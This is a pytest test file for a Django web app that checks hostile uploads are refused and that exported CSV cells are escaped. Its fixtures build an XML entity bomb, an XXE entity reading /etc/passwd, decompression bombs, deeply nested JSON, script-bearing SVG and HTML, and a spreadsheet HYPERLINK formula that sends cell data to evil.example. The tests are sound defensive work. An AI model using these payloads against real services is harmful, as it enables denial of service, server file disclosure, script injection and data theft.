"""Files made to do harm, through the pages that read them at once: refused in words, nothing kept."""

from __future__ import annotations

import csv
import io
import json
import zipfile
from collections.abc import Callable
from pathlib import Path

import numpy as np
import pyarrow as pa
import pyarrow.parquet as pq
import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from openpyxl import Workbook

from isopolis.workspace.barriers.models import Barrier, PlaceTable
from isopolis.workspace.plan.models import ImportedPlan
from isopolis.workspace.practices.models import Practice
from isopolis.workspace.site.downloads import csv_text


def workbook(parts: dict[str, bytes]) -> bytes:
    """A small workbook with some of its parts replaced."""
    book, made, out = Workbook(), io.BytesIO(), io.BytesIO()
    book.active.append(["title", "lat", "lon"])
    book.active.append(["A", 48.85, 2.35])
    book.save(made)
    with zipfile.ZipFile(made) as old, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as new:
        for name in {*old.namelist(), *parts}:
            new.writestr(name, parts[name] if name in parts else old.read(name))
    return out.getvalue()


def entities() -> bytes:
    """A billion laughs in the shared texts."""
    levels = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))
    text = f'<?xml version="1.0"?><!DOCTYPE sst [<!ENTITY l0 "ha">{levels}]><sst><si><t>&l9;</t></si></sst>'
    return workbook({"xl/sharedStrings.xml": text.encode(), "xl/worksheets/sheet1.xml": sheet(text_of=0)})


def sheet(text_of: int) -> bytes:
    cell = f'<c r="A1" t="s"><v>{text_of}</v></c>'
    space = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
    return f'<worksheet xmlns="{space}"><sheetData><row r="1">{cell}</row></sheetData></worksheet>'.encode()


def outside_file() -> bytes:
    """A text that would be read from the server's disk."""
    text = b'<?xml version="1.0"?><!DOCTYPE s [<!ENTITY x SYSTEM "file:///etc/passwd">]><sst><si><t>&x;</t></si></sst>'
    return workbook({"xl/sharedStrings.xml": text, "xl/worksheets/sheet1.xml": sheet(text_of=0)})


def swollen() -> bytes:
    return workbook({"xl/sharedStrings.xml": bytes(300_000_000)})


def parquet_that_swells() -> bytes:
    """Half a megabyte that is 2.4 GB of numbers."""
    out = io.BytesIO()
    names = ["lat", "lon", "name"]
    dictionary = pa.table({name: pa.array(np.zeros(2_000_000, dtype=np.float64)) for name in names})
    with pq.ParquetWriter(out, dictionary.schema, use_dictionary=True) as writer:
        for _ in range(50):
            writer.write_table(dictionary)
    return out.getvalue()


def nested() -> bytes:
    return b'{"type": "FeatureCollection", "features": ' + b"[" * 200_000 + b"]" * 200_000 + b"}"


def nested_coordinates() -> bytes:
    deep = "[" * 50_000 + "1" + "]" * 50_000
    geometry = f'{{"type": "MultiPolygon", "coordinates": {deep}}}'
    return f'{{"type":"FeatureCollection","features":[{{"type":"Feature","geometry":{geometry}}}]}}'.encode()


SVG = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(1)</script></svg>'
HOSTILE: dict[str, tuple[str, Callable[[], bytes]]] = {
    "entities that multiply": ("t.xlsx", entities),
    "a file of the server as an entity": ("t.xlsx", outside_file),
    "a workbook that swells": ("t.xlsx", swollen),
    "parquet that swells": ("t.parquet", parquet_that_swells),
    "GeoJSON nested without end": ("t.geojson", nested),
    "coordinates nested without end": ("t.geojson", nested_coordinates),
    "a picture with a script": ("t.svg", lambda: SVG),
    "a page with a script as a table": ("t.csv", lambda: b"<html><script>alert(1)</script></html>"),
}


@pytest.fixture(autouse=True)
def folder(settings, tmp_path) -> Path:
    settings.DATA = tmp_path
    return tmp_path


@pytest.mark.parametrize("what", HOSTILE)
def test_no_table_of_places_does_harm(what, partnership, people, signed_in, folder) -> None:
    name, make = HOSTILE[what]
    client = signed_in(people["partner"])
    url = f"/partnerships/{partnership.slug}/barriers/places/"
    answer = client.post(url, {"service": "library", "file": SimpleUploadedFile(name, make())})
    _refused(answer, folder)
    assert not PlaceTable.objects.exists()


PLANS: dict[str, tuple[str, Callable[[], bytes]]] = {
    **{what: one for what, one in HOSTILE.items() if one[0].endswith("xlsx")},
    "a plan nested without end": ("p.json", lambda: b'{"title": ' + b"[" * 200_000 + b"]" * 200_000 + b"}"),
    "a number of a million digits": ("p.json", lambda: b'{"title": ' + b"9" * 1_000_000 + b"}"),
    "a workbook called JSON": ("p.json", swollen),
    "a page with a script as a plan": ("p.json", lambda: b"<html><script>alert(1)</script></html>"),
    "a script as the name of a field": ("p.json", lambda: b'{"<script>alert(1)</script>": 1}'),
}


@pytest.mark.parametrize("what", PLANS)
def test_no_plan_file_does_harm(what, partnership, people, signed_in, folder) -> None:
    name, make = PLANS[what]
    client = signed_in(people["coordinator"])
    url = f"/partnerships/{partnership.slug}/plan/import/"
    answer = client.post(url, {"file": SimpleUploadedFile(name, make()), "keeps": "yes"})
    _refused(answer, folder)
    assert not ImportedPlan.objects.exists()


PRACTICES: dict[str, tuple[str, Callable[[], bytes]]] = {
    "practices nested without end": ("p.json", lambda: b'{"practices": ' + b"[" * 200_000 + b"]" * 200_000),
    "a number of a million digits": ("p.json", lambda: b'{"practices": ' + b"9" * 1_000_000 + b"}"),
    "TOML with a number of a million digits": ("p.toml", lambda: b"a = " + b"9" * 1_000_000),
    "TOML nested without end": ("p.toml", lambda: b"a = " + b"[" * 200_000 + b"]" * 200_000),
    "a heading of a thousand levels": ("p.csv", lambda: b"id," + b"results." * 1_000 + b"x\n1,2\n"),
    "a cell of megabytes": ("p.csv", lambda: b'id,title.en\nx,"' + b"y" * 4_000_000),
    "a formula for an id": ("p.csv", lambda: b'id,title.en\n"=HYPERLINK(""https://evil.example"")",x\n'),
    "a page with a script": ("p.csv", lambda: b"<html><script>alert(1)</script></html>"),
    "a workbook": ("p.xlsx", swollen),
}


@pytest.mark.parametrize("what", PRACTICES)
def test_no_file_of_practices_does_harm(what, partnership, people, signed_in, folder) -> None:
    name, make = PRACTICES[what]
    client = signed_in(people["moderator"])
    url = f"/partnerships/{partnership.slug}/learn/practices/import/"
    _refused(client.post(url, {"file": SimpleUploadedFile(name, make())}), folder)
    assert not Practice.objects.filter(partnership=partnership).exists()


def _refused(answer, folder: Path) -> None:
    """In words, without a word of the server's, and nothing is left on the disk."""
    page = answer.content.decode()
    assert answer.status_code == 400, page
    assert "something broke" not in page
    assert "root:" not in page
    assert "<script>alert" not in page
    assert str(folder) not in page
    assert [path for path in folder.rglob("*") if path.is_file()] == []


def as_wide_as_it_goes() -> bytes:
    """A hundred kilobytes that are eighty million cells."""
    rows = "".join(f'<row r="{n}"><c r="A{n}"><v>1</v></c></row>' for n in range(2, 5_001))
    head = '<row r="1"><c r="A1" t="inlineStr"><is><t>title</t></is></c></row>'
    space = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
    cells = f'<dimension ref="A1:XFD5000"/><sheetData>{head}{rows}</sheetData>'
    return workbook({"xl/worksheets/sheet1.xml": f'<worksheet xmlns="{space}">{cells}</worksheet>'.encode()})


def test_a_plan_that_takes_too_long_is_stopped_and_that_is_said(
    partnership, people, signed_in, folder, monkeypatch
) -> None:
    monkeypatch.setattr("isopolis.workspace.tasks.apart.SECONDS", 1)
    client = signed_in(people["coordinator"])
    answer = client.post(
        f"/partnerships/{partnership.slug}/plan/import/",
        {"file": SimpleUploadedFile("wide.xlsx", as_wide_as_it_goes()), "keeps": "yes"},
        headers={"Accept-Language": "fr"},
    )
    _refused(answer, folder)
    assert "le lire prenait trop de temps ou de mémoire, et a été arrêté" in answer.content.decode()


def test_what_is_larger_than_a_page_takes_is_413_in_words(partnership, people, signed_in) -> None:
    client = signed_in(people["partner"])
    large = SimpleUploadedFile("t.csv", b"lat,lon\n" + b"1,1\n" * 5_500_000)
    answer = client.post(
        f"/partnerships/{partnership.slug}/barriers/places/", {"service": "x", "file": large}
    )
    assert answer.status_code == 413
    assert "at most 20 MB" in answer.content.decode()


def test_three_megabytes_of_places_and_of_a_document_are_taken(
    partnership, people, signed_in, settings
) -> None:
    settings.MEDIA_ROOT = settings.DATA / "media"
    client = signed_in(people["partner"])
    rows = "".join(f"48.{at:06},2.35,{'x' * 500}\n" for at in range(6_000))
    file = SimpleUploadedFile("t.csv", f"lat,lon,name\n{rows}".encode())
    url = f"/partnerships/{partnership.slug}/barriers/"
    assert client.post(f"{url}places/", {"service": "library", "file": file}).status_code == 302
    assert PlaceTable.objects.get().places.count() == 6_000
    barrier = Barrier.objects.create(partnership=partnership, title="Stairs")
    document = SimpleUploadedFile("plan.pdf", bytes(3_000_000))
    sent = {"title": "The plan", "file": document}
    assert client.post(f"{url}{barrier.pk}/documents/new/", sent).status_code == 302
    assert barrier.documents.get().file.size == 3_000_000


FORMULA = '=HYPERLINK("https://evil.example/?"&A1)'


def test_no_table_that_leaves_runs_a_formula(partnership, people, signed_in) -> None:
    """What somebody wrote is text in a spreadsheet, also where it looks like a formula."""
    client = signed_in(people["coordinator"])
    place = f"/partnerships/{partnership.slug}/"
    Barrier.objects.create(partnership=partnership, title=FORMULA, service="@SUM(1)", place="+1")
    answer = client.get(f"/api/v1{place}barriers", {"format": "csv"}).content.decode()
    row = next(csv.DictReader(io.StringIO(answer)))
    assert (row["title"], row["service"], row["place"]) == (f"'{FORMULA}", "'@SUM(1)", "'+1")
    archive = client.post(f"{place}exchange/export/")
    with zipfile.ZipFile(io.BytesIO(b"".join(archive.streaming_content))) as opened:
        row = next(csv.DictReader(io.StringIO(opened.read("tables/barriers.barrier.csv").decode())))
        kept = json.loads(opened.read("records/barriers.barrier.jsonl").decode().splitlines()[0])
    assert row["title"] == f"'{FORMULA}"
    assert kept["title"] == FORMULA  # what is read back is what was written
    rows = csv.reader(io.StringIO(csv_text([[FORMULA, -1, "@x"]])))
    assert next(rows) == [f"'{FORMULA}", "-1", "'@x"]
